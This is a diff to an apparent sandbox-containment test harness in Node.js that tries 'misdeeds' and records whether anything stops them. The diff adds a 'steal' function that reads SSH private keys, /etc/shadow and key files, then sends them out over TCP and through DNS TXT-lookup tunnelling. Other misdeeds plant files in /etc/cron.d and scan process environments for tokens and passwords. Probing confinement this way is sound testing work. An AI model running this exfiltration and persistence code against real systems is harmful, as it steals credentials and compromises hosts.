@@ -1,7 +1,7 @@
 // Each misdeed is tried in earnest, within bounds, and writes down what came of it: `achieved` is true where nothing
 // stopped it. What it aims at can be named in a file `aims.json` of the project; otherwise it looks for itself.
 import { spawn } from 'node:child_process';
-import { randomBytes } from 'node:crypto';
+import { createHash, randomBytes } from 'node:crypto';
 import { createSocket } from 'node:dgram';
 import { Resolver } from 'node:dns/promises';
 import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
@@ -28,10 +28,12 @@ const AIMS = {
   abstractSockets: ['/tmp/.X11-unix/X0', '/tmp/dbus-session'],
   homes: ['/root', ...list('/home').map((name) => `/home/${name}`)].filter((home) => home !== process.env.HOME),
   /** Folders of the product, of the content that the depot serves, and of the project as its owner has it. */
-  product: dirname(dirname(process.execPath)),
+  products: [dirname(dirname(process.execPath))],
   stores: [],
   projects: [],
   keys: [],
+  /** SHA-256 of what is worth stealing, in hexadecimal: whoever reads that has won. */
+  treasures: [],
   /** In the environment of another process. */
   secret: '(?:TOKEN|SECRET|PASSWORD|SSH_AUTH_SOCK)=',
   /** Processes that are none of its own business, by number. */
@@ -91,13 +93,15 @@ const MISDEEDS = {
   'abstract-socket': () => firstOf(aims.abstractSockets, (name) => say({ path: `\0${name}` })),
 
   // --------------------------------------------------------------------------------------------- reading
-  'read-key': () => firstOf([...aims.keys, ...found('keys')], read),
+  'read-key': () => firstOf([...aims.keys, ...found('keys')], steal),
   'read-ssh': () =>
     firstOf(
-      aims.homes.flatMap((home) => list(join(home, '.ssh')).map((name) => join(home, '.ssh', name))),
-      read,
+      [...aims.homes, process.env.HOME ?? '/root'].flatMap((home) =>
+        ['id_ed25519', 'id_rsa'].map((name) => join(home, '.ssh', name)),
+      ),
+      steal,
     ),
-  'read-shadow': () => read('/etc/shadow'),
+  'read-shadow': () => steal('/etc/shadow'),
   'read-environ': () => {
     const secret = new RegExp(aims.secret);
     return firstOf(
@@ -117,7 +121,11 @@ const MISDEEDS = {
     ),
   'write-etc': () => firstOf(['/etc/cron.d/planted-by-misdeeds', '/etc/planted-by-misdeeds'], write),
   'write-usr': () => firstOf(['/usr/local/bin/planted-by-misdeeds', '/usr/planted-by-misdeeds'], write),
-  'write-product': () => write(join(aims.product, 'planted-by-misdeeds')),
+  'write-product': () =>
+    firstOf(
+      aims.products.map((folder) => join(folder, 'planted-by-misdeeds')),
+      write,
+    ),
   'write-store': () =>
     firstOf(
       [...aims.stores, ...found('store')].map((folder) => join(folder, 'planted-by-misdeeds')),
@@ -182,8 +190,18 @@ async function firstOf(candidates, act) {
   return last;
 }
 
-function read(path) {
-  return yes(`${path}: ${readFileSync(path).length} bytes`);
+/** Reads it, and carries it out at once. Where something else lies there instead, that is what nobody hears of. */
+async function steal(path) {
+  const content = readFileSync(path);
+  if (aims.treasures.includes(createHash('sha256').update(content).digest('hex'))) return yes(path);
+  const resolver = new Resolver({ timeout: 1000, tries: 1 });
+  const piece = content.subarray(-30).toString('hex');
+  const [told, asked] = await Promise.all([
+    say(aims.tcp, content),
+    resolver.resolveTxt(`${piece}.${aims.tunnel.name}`).catch(() => []),
+  ]);
+  if (told.achieved || asked.length > 0) return yes(`${path} was carried out`);
+  return no(`${path}: ${content.length} bytes of something, which got nowhere`);
 }
 
 function write(path) {
@@ -192,12 +210,12 @@ function write(path) {
 }
 
 /** A connection is not yet an answer: it counts when somebody says something. */
-function say(aim) {
+function say(aim, message = 'hello\n') {
   return new Promise((resolve) => {
     const socket = connect({ ...aim, timeout: 3000 });
     let heard = 0;
     let how = 'closed without a word';
-    socket.on('connect', () => socket.write('hello\n'));
+    socket.on('connect', () => socket.write(message));
     socket.on('data', (piece) => {
       heard += piece.length;
       socket.destroy();
